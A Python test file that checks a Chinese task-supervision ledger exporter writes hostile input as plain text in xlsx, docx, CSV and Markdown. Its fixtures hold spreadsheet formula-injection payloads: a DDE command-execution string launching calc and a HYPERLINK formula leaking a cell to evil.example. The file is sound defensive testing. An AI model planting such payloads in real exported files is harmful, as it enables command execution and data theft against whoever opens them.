"""The 督办台账 with text a hostile member or a careless paste put into a note, a task and a title.

Each file is read back as its reader would (openpyxl, python-docx, csv): a
cell that starts like a formula is text, never a formula; control characters
that XML cannot hold are gone from .xlsx/.docx and kept in .md/.csv.
"""

from __future__ import annotations

import csv
import io
from datetime import date

import docx
import openpyxl

from bot.ledger import render
from reminders.ledger import Latest, LedgerRow

DAY = date(2026, 11, 24)
LINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看详情")'
PASTED = "已完成\x0b80%\x1b[31m，见附件\x07"  # a vertical tab, an escape and a bell, as PDF text carries


def rows() -> list[LedgerRow]:
    return [
        LedgerRow("evil", "=cmd|' /C calc'!A0", 1, "+SUM(1,2)", "市生态环境局", ("@其他单位",), "2025年底",
                  date(2025, 12, 31), -328, "已逾期", Latest(LINK, "市生态环境局", date(2026, 11, 20), False), 0),
        LedgerRow("evil", "=cmd|' /C calc'!A0", 2, "任务\x0c第二项", "市交通局", (), "2027年底", date(2027, 12, 31),
                  402, "未到期", Latest(PASTED, "市交通局", date(2026, 11, 21), False), 1),
    ]


def test_the_workbook_holds_every_hostile_cell_as_text():
    sheet = openpyxl.load_workbook(io.BytesIO(render(rows(), "xlsx", DAY))).active
    values = [[c for c in row] for row in sheet.iter_rows(min_row=4)]
    first, second = values
    assert first[1].value == "+SUM(1,2)" and first[1].data_type == "s"
    assert first[3].value == "@其他单位" and first[3].data_type == "s"
    assert first[8].value == f"{LINK}（市生态环境局，2026-11-20）" and first[8].data_type == "s"
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
    assert second[1].value == "任务 第二项"
    assert second[8].value == "已完成 80% [31m，见附件 （市交通局，2026-11-21）"
    assert sheet["A3"].value == "《=cmd|' /C calc'!A0》"
    assert first[6].value == -328 and first[6].data_type == "n"  # the days stay a number


def test_the_word_document_is_written_whatever_the_control_characters():
    document = docx.Document(io.BytesIO(render(rows(), "docx", DAY)))
    (table,) = document.tables
    assert table.rows[2].cells[1].text == "任务 第二项"
    assert table.rows[2].cells[8].text == "已完成 80% [31m，见附件 （市交通局，2026-11-21）"
    assert document.paragraphs[1].text == "《=cmd|' /C calc'!A0》"


def test_csv_cells_that_start_like_a_formula_are_neutralised_and_numbers_stay_numbers():
    text = render(rows(), "csv", DAY).decode("utf-8-sig")
    _, first, second = list(csv.reader(io.StringIO(text)))
    assert first[1] == "'=cmd|' /C calc'!A0"  # the document's title
    assert first[3] == "'+SUM(1,2)" and first[5] == "'@其他单位"
    assert first[10] == f"'{LINK}（市生态环境局，2026-11-20）"
    assert first[8] == "-328"  # signed days: a number, not a formula
    assert second[10] == PASTED + "（市交通局，2026-11-21）"  # kept: CSV can hold it


def test_markdown_keeps_the_text_as_written():
    text = render(rows(), "md", DAY).decode("utf-8")
    assert LINK.replace("|", "\\|") in text and "\x0b80%" in text
